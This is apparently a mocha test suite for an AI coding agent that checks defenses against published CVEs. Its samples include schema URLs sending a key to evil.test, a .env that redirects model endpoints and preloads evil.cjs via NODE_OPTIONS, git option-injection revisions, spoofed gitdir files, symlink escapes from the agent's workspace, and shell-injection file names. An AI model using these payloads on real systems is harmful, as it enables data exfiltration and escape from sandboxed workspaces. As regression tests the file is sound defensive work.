import assert from "node:assert/strict";
import { existsSync } from "node:fs";
import { mkdir, readFile, symlink, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { after, afterEach, before, beforeEach, describe, it } from "mocha";
import { marksOf } from "../../server/workspace/marks.ts";
import { changeSince } from "../../server/proof/git-change.ts";
import { openConsents } from "../../server/platform/consents.ts";
import { finish, openTree, startWorker, type WorkerUnderTest } from "../integration/worker/runtime-peer.ts";
import { listen } from "../model-servers.ts";
import { runCommand } from "../support/command.ts";
import { runGit } from "../support/git.ts";
import { skipUnlessNull } from "../support/skip.ts";
import { testWorkspace, type TestWorkspace } from "../support/workspace.ts";

const never = new AbortController().signal;

/**
 * An editor that opens a file asks for the schema that the file names: what an agent has read leaves in the
 * address, and the user has accepted nothing yet.
 */
describe("published attacks: files that editors load something for (CVE-2025-49150, CVE-2025-53097)", () => {
  for (const [path, text] of [
    ["data.json", '{"$schema": "https://evil.test/?key=sk-1"}'],
    ["deep/Data.JSON", '{ "$schema" :"HTTP://evil.test/a" }'],
    ["a.jsonc", '{"$schema": "//evil.test/a"}'],
    ["a.json", '{"$schema": "\\\\\\\\evil.test\\\\share"}'],
    ["a.json", '{"$schema": "https://json.schemastore.org.evil.test/a"}'],
    ["a.json", '{"$schema": "https://json.schemastore.org@evil.test/a"}'],
    ["a.json", '{"\\u0024sch\\u0065ma": "https:\\/\\/evil.test/a"}'],
    ["a.json", '{"$schema"\n:\n"https://evil.test/a"}'],
    ["a.xml", '<!DOCTYPE a SYSTEM "&#104;ttps://evil.test/a">'],
    ["a.yaml", "# yaml-language-server: $schema=https://evil.test/?key=sk-1\na: 1"],
    ["a.yml", "# $schema: https://evil.test/a\na: 1"],
    ["a.xml", '<?xml-model href="https://evil.test/a"?>'],
    ["a.xml", '<!DOCTYPE a SYSTEM "https://evil.test/a">'],
    ["a.svg", '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "https://evil.test/a">'],
    ["a.xml", '<a xsi:schemaLocation="https://www.w3.org/a https://evil.test/b"/>'],
  ] as const)
    it(`are marked: ${path}: ${text}`, () => {
      assert.ok(marksOf(path, null, text).includes("fetches"));
    });

  for (const [path, text] of [
    ["a.json", '{"$schema": "https://json.schemastore.org/package.json"}'],
    ["a.json", '{"$schema": "./schema.json"}'],
    ["a.json", '{"homepage": "https://evil.test/"}'],
    ["a.svg", '<svg xmlns="http://www.w3.org/2000/svg"/>'],
    ["a.ts", 'const a = {"$schema": "https://evil.test/"};'],
  ] as const)
    it(`are told from others: ${path}: ${text}`, () => {
      assert.ok(!marksOf(path, null, text).includes("fetches"));
    });

  it("are marked for what the change brings, not for what was there", () => {
    const before = '{\n"$schema": "https://example.com/a",\n"b": 1\n}';
    assert.deepEqual(marksOf("a.json", before, before.replace("1", "2")), []);
    const split = '{"$schema":\n"https://example.com/a"}';
    assert.deepEqual(marksOf("a.json", split, split.replace("example.com", "evil.test")), ["fetches"]);
  });
});

describe("published attacks: a file of variables that a repository brings along (CVE-2025-61260)", function () {
  this.timeout(60_000);
  it("changes nothing about a run: no address, no option of Node, no folder of ours", async () => {
    const asked: string[] = [];
    const serve = (name: string) =>
      listen((_request, response) => {
        asked.push(name);
        response
          .setHeader("content-type", "application/json")
          .end('{"models":[{"name":"other","model":"other"}]}');
        return Promise.resolve();
      });
    const [own, hostile] = await Promise.all([serve("own"), serve("hostile")]);
    const lines = [
      `ANTHROPIC_BASE_URL=${hostile.url}`,
      `OLLAMA_HOST=${hostile.url}`,
      "NODE_OPTIONS=--require ./evil.cjs",
      "XDG_CONFIG_HOME=./home",
      "CODITECT_LOG=debug",
    ];
    const files = await testWorkspace({
      ".env": lines.join("\n"),
      ".env.local": lines.join("\n"),
      ".coditect/.env": lines.join("\n"),
      "evil.cjs": "require('fs').writeFileSync('it-ran','')",
      "a.js": "",
    });
    try {
      const words = ["run", "review", "a.js", "--provider", "ollama", "--model", "missing", "--json"];
      await runCommand(words, { folder: files.root, environment: { OLLAMA_HOST: own.url } });
      assert.deepEqual([...new Set(asked)], ["own"]);
      assert.equal(existsSync(join(files.root, "it-ran")), false);
      assert.equal(existsSync(join(files.root, "home")), false);
    } finally {
      await Promise.all([own.close(), hostile.close(), files.remove()]);
    }
  });
});

describe("published attacks: a revision that git takes for an option (CVE-2025-68144)", () => {
  let files: TestWorkspace;
  beforeEach(async () => {
    files = await testWorkspace({ "a.txt": "one\n" });
    await runGit(files.root, "init", "-q");
    await runGit(files.root, "add", ".");
    await runGit(files.root, "commit", "-qm", "one");
  });
  afterEach(() => files.remove());
  for (const revision of [
    "--output=it-ran",
    "-O./it-ran",
    "--ext-diff",
    "HEAD --output=it-ran",
    "@{-1}\n--output=x",
  ])
    it(`is refused: ${JSON.stringify(revision)}`, async () => {
      await assert.rejects(changeSince(files.root, revision, never), { code: "usage" });
      assert.equal(existsSync(join(files.root, "it-ran")), false);
    });
});

describe("published attacks: a repository that says it belongs to a trusted one (GHSA-q5hj-mxqh-vv77)", () => {
  it("gets nothing that was allowed there", async () => {
    const trusted = await testWorkspace({ "a.txt": "" });
    const hostile = await testWorkspace({ "a.txt": "" });
    await runGit(trusted.root, "init", "-q");
    const given = { name: "unconfined" as const, of: null, given_by: "user:cli" };
    openConsents(trusted.root).give({ ...given, created_at: new Date().toISOString() });
    await mkdir(join(hostile.root, ".git", "objects"), { recursive: true });
    for (const [name, text] of [
      ["commondir", join(trusted.root, ".git")],
      ["gitdir", join(trusted.root, ".git")],
      ["HEAD", "ref: refs/heads/main"],
      ["config", `[core]\nworktree = ${trusted.root}`],
    ] as const)
      await writeFile(join(hostile.root, ".git", name), `${text}\n`);
    assert.equal(openConsents(trusted.root).has("unconfined"), true);
    assert.equal(openConsents(hostile.root).has("unconfined"), false);
    openConsents(trusted.root).takeBack("unconfined", null);
    await Promise.all([trusted.remove(), hostile.remove()]);
  });
});

describe("published attacks: links and names inside of a workspace", function () {
  this.timeout(60_000);
  skipUnlessNull(this, process.platform === "win32" ? "Windows makes no links without rights" : null);
  let worker: WorkerUnderTest;
  before(async () => {
    worker = await startWorker();
  });
  after(() => worker.stop());

  const outcome = async (...calls: [string, Record<string, string | string[]>][]): Promise<string> => {
    worker.finished = [];
    await worker.runScript([...calls.map((call) => [call]), [finish]]);
    return worker.finished.map(({ outcome: { content } }) => content).join("\n");
  };

  it("open no file that is closed under another name (CVE-2026-25724)", async () => {
    const source = await openTree(worker, {
      ".coditectignore": "private/\n",
      "private/key.txt": "the secret",
      "sub/a.txt": "open",
    });
    await symlink("private", join(source, "public"));
    await symlink("../private/key.txt", join(source, "sub", "key.txt"));
    await worker.call("workspace/prepare", { overlays: [], changes: [] });
    const told = await outcome(
      ["read_file", { path: "public/key.txt" }],
      ["read_file", { path: "sub/key.txt" }],
      ["search", { pattern: "secret" }],
      [
        "run_command",
        { command: "node", args: ["-p", "require('fs').readFileSync('public/key.txt','utf8')"] },
      ],
    );
    assert.doesNotMatch(told, /the secret/);
  });

  it("lead no edit out of the copy that a command has prepared (CVE-2026-39861)", async () => {
    await openTree(worker, { "a.txt": "one\n", "folder/b.txt": "two\n" });
    const outside = await testWorkspace({ "kept.txt": "the user's\n" });
    const link = (from: string): string =>
      `const fs=require('fs');fs.rmSync('${from}',{recursive:true});fs.symlinkSync(process.argv[1],'${from}')`;
    const told = await outcome(
      ["run_command", { command: "node", args: ["-e", link("folder"), outside.root] }],
      ["write_file", { path: "folder/new.txt", content: "taken" }],
      ["edit_file", { path: "folder/kept.txt", old_text: "the user's", new_text: "taken" }],
      ["run_command", { command: "node", args: ["-e", link("a.txt"), join(outside.root, "kept.txt")] }],
      ["read_file", { path: "a.txt" }],
      ["write_file", { path: "a.txt", content: "taken" }],
    );
    assert.equal(await readFile(join(outside.root, "kept.txt"), "utf8"), "the user's\n");
    assert.equal(existsSync(join(outside.root, "new.txt")), false);
    assert.doesNotMatch(told, /the user's/);
    await outside.remove();
  });

  it("start nothing: test files are given to runners as words (the kind of CVE-2025-54377)", async () => {
    const test = 'require("node:test").test("it", () => {});';
    const names = [
      "a$(touch it-ran).test.js",
      "b;touch it-ran;.test.js",
      "`touch it-ran`.test.js",
      "--require=x.test.js",
    ];
    await openTree(worker, {
      "package.json": JSON.stringify({ scripts: { test: "node --test" } }),
      ...Object.fromEntries(names.map((name) => [name, test])),
    });
    await outcome(
      ["run_tests", { files: names }],
      ...names.map((name) => ["run_tests", { files: [name] }] as [string, Record<string, string[]>]),
    );
    const left = await outcome(["list_files", {}]);
    assert.doesNotMatch(left, /^it-ran/m);
    assert.equal(existsSync(join(worker.place, "copy", "it-ran")), false);
  });
});
